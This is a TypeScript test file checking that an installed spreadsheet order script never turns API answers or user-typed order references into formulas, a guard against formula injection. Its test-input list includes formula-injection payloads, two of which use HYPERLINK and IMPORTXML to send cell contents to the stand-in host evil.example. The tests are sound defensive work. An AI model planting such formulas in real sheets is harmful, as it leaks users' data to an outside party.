import fc from "fast-check";
import type { FaultKind } from "../../local/api/faults";
import { noFaults } from "../../local/api/faults";
import { InstalledScript, neededHeaders, orderRow } from "../installed-script";

/** Texts that a spreadsheet takes for formulas, or that programs which open a csv do. */
const formulaTexts = [
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '=IMPORTXML("https://evil.example/","//a")',
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1",
  "\r\n=1",
  "'=1",
  "＝1",
];

function formulasIn(script: InstalledScript): string[] {
  return script.cells().flatMap(({ formula }) => formula ?? []);
}

describe("what comes from the API never becomes a formula", () => {
  test.each<FaultKind>(["formula-number", "formula-message", "markup-number"])(
    "an answer with %s",
    (kind) => {
      const script = new InstalledScript({ rows: [neededHeaders, orderRow("R-1"), orderRow("R-2")] });
      script.api.faults = { ...noFaults, chances: { [kind]: 1 } };
      script.create();
      expect(script.row(2).Status).toMatch(/^(Created \(test\)|Rejected)$/);
      expect(formulasIn(script)).toEqual([]);
    },
  );

  test("an order ID and a number of whatever text", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("=", "+", "-", "@", "'", "\t="),
        fc.string({ minLength: 1, maxLength: 40 }),
        (start, rest) => {
          const script = new InstalledScript({
            rows: [neededHeaders, orderRow("R-1")],
            alter: (answer, { method }) =>
              method === "POST" ? { ...answer, body: withIdAndNumber(answer.body, start + rest) } : answer,
          });
          script.create();
          expect(formulasIn(script)).toEqual([]);
        },
      ),
      { seed: 6, numRuns: 25 },
    );
  });
});

describe("what users and strangers typed never becomes a formula elsewhere", () => {
  test.each(formulaTexts)("an Order ref of %j, in the status columns and in the log", (text) => {
    const script = new InstalledScript({ rows: [neededHeaders, orderRow(text, text), orderRow("R-2")] });
    script.create();
    expect(script.spreadsheet.sheets.length).toBeGreaterThan(1);
    expect(formulasIn(script)).toEqual([]);
  });

  test("notes that look like a formula arrive in bitbybit as they were typed", () => {
    const script = new InstalledScript({ rows: [neededHeaders, orderRow("R-1", "=1+1")] });
    script.create();
    expect(script.made()[0]?.notes?.split("\n")[0]).toBe("=1+1");
  });
});

function withIdAndNumber(body: string, text: string): string {
  const answer = JSON.parse(body);
  return JSON.stringify({ ...answer, data: { ...answer.data, id: text, orderNumber: text } });
}
